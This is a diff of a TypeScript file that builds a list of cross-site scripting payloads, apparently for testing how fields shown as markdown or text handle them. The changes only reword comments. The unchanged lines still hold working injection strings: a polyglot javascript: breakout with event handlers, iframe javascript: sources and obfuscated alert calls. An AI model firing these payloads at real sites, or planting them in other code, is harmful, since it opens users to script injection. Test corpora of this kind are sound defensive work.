@@ -1,4 +1,4 @@
-/** What lists of cross-site scripting payloads are made of, put together again from their parts. */
+/** The parts of public lists of cross-site scripting payloads, put together again. */
 
 /** Each of these says that it ran: the page under attack listens to all of them. */
 const codes = ["alert(1)", "prompt(1)", "confirm(1)", "ran=1", "top['al'+'ert'](1)"];
@@ -109,7 +109,7 @@ const breakouts = [
   "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/<sVg/oNloAd=alert()//>",
 ];
 
-/** What loads or leads somewhere without a script. */
+/** Elements that load something or lead elsewhere without a script. */
 const elements = [
   `<iframe src=${evil}></iframe>`,
   "<iframe src=javascript:alert(1)></iframe>",
@@ -204,7 +204,7 @@ const links = addresses.flatMap((address, at) => [
   forms[1 + (at % (forms.length - 1))]?.(address) ?? "",
 ]);
 
-/** For whatever is shown as markdown or as text. */
+/** For fields that are shown as markdown or as text. */
 export const markup: string[] = [
   ...new Set([...handlers, ...scripts, ...breakouts, ...elements, ...markdown, ...links]),
 ];
